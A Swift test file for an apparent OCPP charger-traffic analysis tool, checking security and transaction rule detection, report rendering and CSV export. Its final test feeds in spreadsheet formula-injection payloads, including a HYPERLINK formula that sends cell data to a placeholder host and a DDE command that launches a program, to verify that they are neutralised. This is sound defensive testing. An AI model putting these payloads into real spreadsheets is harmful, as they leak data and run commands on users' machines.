import Foundation
import OCPPSchema
import OCPPWire
import Testing
import WitnessAnalysis
import NIOCore
import WitnessCapture

#if canImport(FoundationXML)
import FoundationXML
#endif

enum Paths {
    static let root = URL(fileURLWithPath: #filePath).deletingLastPathComponent().deletingLastPathComponent().deletingLastPathComponent()
}

/// Writes a small capture through the real writer: a 1.6 charger whose register goes backwards.
func plantedCapture() throws -> String {
    let directory = FileManager.default.temporaryDirectory.appendingPathComponent("analysis-\(UUID().uuidString)").path
    let writer = try CaptureWriter(configuration: .init(directory: directory), header: CaptureHeader(backendName: "Backend <B&B>"))
    var correlator = CallCorrelator<Void>()
    var clock: Int64 = 1_795_000_000_000_000
    func frame(_ text: String, _ direction: Direction) -> CaptureEvent {
        clock += 1000
        let buffer = ByteBuffer(string: text)
        var event = FrameEvent(
            ts: Timestamp(microseconds: clock), connection: 1, chargePoint: "CP-R", direction: direction, opcode: .text, payload: buffer
        )
        if case .success(let envelope) = OCPPEnvelope.parse(buffer) {
            event.envelope = envelope
            event.note(correlator.observe(envelope, direction: direction, atNanos: UInt64(clock) * 1000))
        }
        return .frame(event)
    }
    writer.record(.connection(.open, connection: 1, chargePoint: "CP-R", fields: ["chosen": "ocpp1.6", "version": "1.6"]))
    let ts = Timestamp(microseconds: clock).rfc3339
    let exchange: [(String, Direction)] = [
        (#"[2,"1","BootNotification",{"chargePointVendor":"R&D","chargePointModel":"<M>","firmwareVersion":"2"}]"#, .toCSMS),
        (#"[3,"1",{"status":"Accepted","currentTime":"\#(ts)","interval":60}]"#, .toCharger),
        (#"[2,"2","StartTransaction",{"connectorId":1,"idTag":"T","meterStart":100,"timestamp":"\#(ts)"}]"#, .toCSMS),
        (#"[3,"2",{"transactionId":7,"idTagInfo":{"status":"Accepted"}}]"#, .toCharger),
        (#"[2,"3","MeterValues",{"connectorId":1,"transactionId":7,"meterValue":[{"timestamp":"\#(ts)","sampledValue":[{"value":"90"}]}]}]"#, .toCSMS),
        (#"[3,"3",{}]"#, .toCharger),
        (#"[2,"4","MeterValues",{"connectorId":1,"transactionId":8,"meterValue":[{"timestamp":"\#(ts)","sampledValue":[{"value":"95"}]}]}]"#, .toCSMS),
        (#"[3,"4",{}]"#, .toCharger),
    ]
    for (text, direction) in exchange { writer.record(frame(text, direction)) }
    writer.close()
    return directory
}

@Suite("Reports")
struct ReportTests {
    func analyse(_ directory: String) throws -> AnalysisReport {
        let analyzer = Analyzer(schemas: try SchemaRegistry(root: Paths.root.appendingPathComponent("schemas").path))
        let reader = try CaptureReader(paths: [directory])
        for record in reader { analyzer.consume(record) }
        return analyzer.finish(readIssues: reader.issues)
    }

    @Test("security evidence: the profile of each connection (0 without credentials), a wrong Basic user, a downgrade")
    func security() throws {
        let directory = FileManager.default.temporaryDirectory.appendingPathComponent("security-\(UUID().uuidString)").path
        try FileManager.default.createDirectory(atPath: directory, withIntermediateDirectories: true)
        defer { try? FileManager.default.removeItem(atPath: directory) }
        func open(_ second: Int, _ connection: Int, _ chargePoint: String, tls: Bool, authorization: String?) -> String {
            let headers = authorization.map { #"{"authorization":"\#($0)"}"# } ?? "{}"
            return #"{"ts":"2026-12-03T08:00:0\#(second).000000Z","kind":"open","conn":\#(connection),"chargePoint":"\#(chargePoint)","chosen":"ocpp1.6","version":"1.6","headers":\#(headers),"tls":{"charger":\#(tls),"chargerClientCertificate":false,"upstream":true,"clientCertificate":null}}"#
        }
        let lines = [
            #"{"ts":"2026-12-03T08:00:00.000000Z","kind":"header","format":1,"started":"2026-12-03T08:00:00.000000Z","backend":"B"}"#,
            open(1, 1, "CP-A", tls: true, authorization: "Basic user=CP-A password=<redacted>"),
            open(2, 2, "CP-A", tls: false, authorization: "Basic user=CP-A password=<redacted>"),
            // Recorded with --capture-secrets: the header as sent, CP-X:secret in base64.
            open(3, 3, "CP-B", tls: false, authorization: "Basic Q1AtWDpzZWNyZXQ="),
            open(4, 4, "CP-C", tls: false, authorization: nil),
        ]
        try (lines.joined(separator: "\n") + "\n").write(toFile: directory + "/witness-1.jsonl", atomically: true, encoding: .utf8)
        let analyzer = Analyzer(schemas: nil)
        for record in try CaptureReader(paths: [directory]) { analyzer.consume(record) }
        let report = analyzer.finish()
        #expect(report.deviations.map { "\($0.rule) \($0.chargePoint ?? "")" } == [
            "security.downgrade CP-A", "security.basicUserMismatch CP-B",
        ])
        #expect(report.deviations.first { $0.rule == "security.basicUserMismatch" }?.detail.contains("'CP-X'") == true)
        #expect(report.pairs.first?.statistics.securityProfiles == [2: 1, 1: 2, 0: 1])
        #expect(JSONWriter.string(report.json).contains(#""securityProfiles":{"0":1,"1":2,"2":1}"#))
    }

    @Test("docs/rules.md is generated from the rule catalogue and has not drifted")
    func rulesDocument() throws {
        let document = try String(contentsOf: Paths.root.appendingPathComponent("docs/rules.md"), encoding: .utf8)
        #expect(document == RuleCatalog.markdown, "regenerate with: .build/debug/ocpp-witness rules > docs/rules.md")
        #expect(Set(RuleCatalog.all.map(\.id)).count == RuleCatalog.all.count)
    }

    @Test("transaction rules find a reading below meter start and an id the CSMS never assigned; the open transaction is noted")
    func transactionRules() throws {
        let directory = try plantedCapture()
        defer { try? FileManager.default.removeItem(atPath: directory) }
        let report = try self.analyse(directory)
        #expect(report.deviations.map { "\($0.rule) \($0.path ?? "-")" } == [
            "tx.sampleOutOfRange /meterValue/0/sampledValue/0/value",
            "tx.unknownTransactionId /transactionId",
            "tx.notStopped -",
        ])
        #expect(report.deviations[1].detail == "transaction id 8 is not open on this charger: the CSMS never assigned it, or it is no longer followed (released after the state retention, or past the bound of open transactions) (last assigned: 7)")
        #expect(report.pairs.first?.key.charger == ChargerIdentity(vendor: "R&D", model: "<M>", firmware: "2"))
        #expect(report.pairs.first?.verdict == "fail")
    }

    @Test("JUnit output is well-formed XML with one failing test case per failing rule family")
    func junit() throws {
        let directory = try plantedCapture()
        defer { try? FileManager.default.removeItem(atPath: directory) }
        let xml = try self.analyse(directory).render(.junit)
        final class Collector: NSObject, XMLParserDelegate {
            var cases: [String] = []
            var failures = 0
            func parser(_ parser: XMLParser, didStartElement name: String, namespaceURI: String?, qualifiedName: String?, attributes: [String: String] = [:]) {
                if name == "testcase" { self.cases.append(attributes["name"] ?? "") }
                if name == "failure" { self.failures += 1 }
            }
        }
        let parser = XMLParser(data: Data(xml.utf8))
        let collector = Collector()
        parser.delegate = collector
        #expect(parser.parse(), "\(String(describing: parser.parserError))")
        // The rule families, then the feature matrix (Core worked: a passing case).
        #expect(collector.cases == ["schema", "rpc", "tx", "security", "Core"])
        #expect(collector.failures == 1)
        #expect(xml.contains("R&amp;D &lt;M&gt; 2 × Backend &lt;B&amp;B&gt;"))
    }

    @Test("the HTML report is one self-contained page with the matrix, deviations and their messages")
    func html() throws {
        let directory = try plantedCapture()
        defer { try? FileManager.default.removeItem(atPath: directory) }
        let html = try self.analyse(directory).render(.html)
        #expect(html.hasPrefix("<!DOCTYPE html>"))
        // Nothing is fetched: the only URL is the SVG namespace name.
        #expect(!html.replacingOccurrences(of: "xmlns=\"http://www.w3.org/2000/svg\"", with: "").contains("http"))
        #expect(!html.contains("<script src") && !html.contains("<link"))
        #expect(html.contains("R&amp;D · &lt;M&gt; · 2"))
        #expect(html.contains("tx.unknownTransactionId"))
        #expect(html.contains("&quot;transactionId&quot;:8"))
        #expect(html.contains("<svg"))
    }

    @Test("latency percentiles stay within the histogram's 2% resolution")
    func percentiles() {
        var histogram = LatencyHistogram()
        for value in 1...1000 { histogram.add(milliseconds: Double(value)) }
        #expect(abs(histogram.percentile(0.5) - 500) / 500 < 0.021)
        #expect(abs(histogram.percentile(0.99) - 990) / 990 < 0.021)
        #expect(histogram.percentile(1.0) == 1000)
        #expect(histogram.count == 1000)
    }
}

@Suite("Handover CSV cells")
struct HandoverCSVTests {
    /// Cells come from chargers (ids, vendor strings, firmware versions): a spreadsheet must show them, not run them.
    @Test("text a spreadsheet would run as a formula is neutralised; numbers, negative ones included, stay numbers")
    func formulas() {
        let cells = [
            #"=HYPERLINK("http://x.example/?"&A1,"click")"#, "=cmd|' /C calc'!A0", "+1+1", "@SUM(A1:A9)", "\t=1", "\r=1", "-2+3",
            "-12.5", "+0.5", "1.5e-3", "-7", "-inf", "CP-7", "", "a=b", "\u{FF1D}1+1",
        ]
        let text = HandoverExport.csv(["c"], cells.map { [$0] })
        let lines = text.components(separatedBy: "\r\n").dropFirst().dropLast()
        #expect(Array(lines) == [
            #""'=HYPERLINK(""http://x.example/?""&A1,""click"")""#, "'=cmd|' /C calc'!A0", "'+1+1", "'@SUM(A1:A9)", "'\t=1", "\"'\r=1\"", "'-2+3",
            "-12.5", "+0.5", "1.5e-3", "-7", "'-inf", "CP-7", "", "a=b", "'\u{FF1D}1+1",
        ])
    }
}
